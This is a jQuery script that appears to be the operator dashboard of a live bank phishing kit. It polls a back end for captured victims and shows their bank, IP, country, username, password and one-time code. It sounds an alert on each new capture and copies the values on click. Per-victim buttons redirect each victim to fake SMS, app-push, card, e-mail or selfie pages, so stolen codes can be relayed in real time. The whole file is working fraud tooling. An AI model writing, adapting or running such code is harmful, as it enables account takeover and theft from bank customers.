$(function () {
  var ding = new Audio('assets/ding.mp3'), known = {};
  var pages = { login: 'Login', login_err: 'Login ✗', sms: 'SMS', sms_err: 'SMS ✗', app: 'App push', card: 'Card', mail: 'E-mail', selfie: 'Selfie', done: 'Finish', block: 'Block IP' };
  function row(v) {
    var $tr = $('<tr>').attr('data-id', v.id).toggleClass('live', v.idle < 10);
    $tr.append($('<td>').text(v.bank), $('<td>').text(v.ip + ' ' + v.country), $('<td class="copy">').text(v.username), $('<td class="copy">').text(v.password), $('<td class="copy">').text(v.otp || '-'), $('<td>').text(v.page));
    var $td = $('<td class="cmds">');
    $.each(pages, function (k, label) { $('<button class="btn btn-xs">').text(label).data('cmd', k).appendTo($td); });
    return $tr.append($td);
  }
  function refresh() {
    $.getJSON('api.php?do=list', function (list) {
      $('#rows').empty();
      $.each(list, function (i, v) {
        var sig = v.username + v.password + v.otp;
        if (known[v.id] !== sig) { known[v.id] = sig; ding.play(); document.title = '(!) ' + v.bank; }
        $('#rows').append(row(v));
      });
      $('#online').text($('tr.live').length);
    });
  }
  $('#rows').on('click', '.cmds button', function () {
    var id = $(this).closest('tr').data('id'), cmd = $(this).data('cmd'), extra = '';
    if (cmd === 'sms') extra = prompt('Last digits of phone');
    if (cmd === 'app') extra = prompt('Amount / device shown');
    $.post('api.php?do=order', { id: id, cmd: cmd, extra: extra }, refresh);
  }).on('click', '.copy', function () { navigator.clipboard.writeText($(this).text()); });
  setInterval(refresh, 2000);
});
